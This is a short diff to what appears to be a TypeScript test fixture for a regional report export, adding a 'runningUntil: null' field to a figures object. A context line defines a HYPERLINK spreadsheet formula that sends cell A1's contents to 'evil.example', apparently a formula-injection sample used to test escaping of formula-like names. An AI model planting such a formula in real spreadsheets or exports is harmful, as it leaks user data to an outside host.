@@ -16,6 +16,7 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
 /** A quarter of a province with three sites; names carry diacritics and, where people type them, formula-like starts. */
 const figures: ReportFigures = {
   period,
+  runningUntil: null,
   previous: previousPeriod(period),
   lastYear: sameLastYear(period),
   site: null,
